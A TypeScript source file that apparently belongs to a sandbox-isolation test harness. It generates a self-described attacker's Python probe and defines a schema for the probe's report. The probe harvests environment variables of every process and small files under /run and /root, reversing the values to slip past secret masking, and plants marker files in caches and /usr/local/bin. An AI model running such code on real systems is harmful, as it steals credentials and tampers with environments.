import { z } from "zod";

/**
 * The attacker's code: it notes what it can reach from where it runs, values backwards, so that no mask hides them.
 *
 * @param where the name of the place, which the note bears.
 */
export function probe(where: string): string {
  return `import json, os, stat
def look(where):
    found = {"variables": {}, "sockets": [], "files": {}}
    def note(name, value):
        found["variables"][name] = value[::-1]
    for pid in [pid for pid in os.listdir("/proc") if pid.isdigit()]:
        try:
            for pair in open("/proc/%s/environ" % pid, errors="replace").read().split("\\0"):
                note(*pair.partition("=")[::2])
        except OSError:
            pass
    for name, value in os.environ.items():
        note(name, value)
    for top in ("/run", "/var", "/tmp", "/root", "/home", "/src", "/work"):
        for folder, _, names in os.walk(top):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    if stat.S_ISSOCK(os.lstat(path).st_mode):
                        found["sockets"].append(path)
                    elif top in ("/run", "/root") and os.path.getsize(path) < 9999 and "/lib/" not in path:
                        found["files"][path] = open(path, errors="replace").read()[::-1]
                except OSError:
                    pass
    for folder in ("/root/.cache/uv", "/root/.cache/pip", "/usr/local/bin", "/cache"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, "planted-by-" + where), "w").close()
        except OSError:
            pass
    for folder in ("/reports", "/tmp", "/src"):
        try:
            with open(os.path.join(folder, "probe-%s.json" % where), "w") as report:
                json.dump(found, report)
        except OSError:
            pass
    return json.dumps(found)
look(${JSON.stringify(where)})
`;
}

const texts = z.record(z.string(), z.string());

/** What the attacker's code noted. */
export const probedSchema = z.object({
  /** Variables of every process that it sees, values backwards. */
  variables: texts,
  /** Paths of Unix sockets. */
  sockets: z.array(z.string()),
  /** Small files of /run and /root, backwards. */
  files: texts,
});

export type Probed = z.infer<typeof probedSchema>;
